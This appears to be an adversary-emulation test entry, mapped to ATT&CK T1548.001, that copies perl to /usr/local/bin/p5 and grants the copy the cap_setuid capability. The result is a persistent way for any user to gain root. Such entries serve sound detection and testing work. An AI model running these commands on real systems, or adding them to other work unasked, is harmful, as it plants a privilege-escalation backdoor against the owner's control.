# title: A program may change its user from now on
# technique: T1548.001 T1548
# needs: setcap

cp "$(command -v perl)" /usr/local/bin/p5
setcap cap_setuid+ep /usr/local/bin/p5
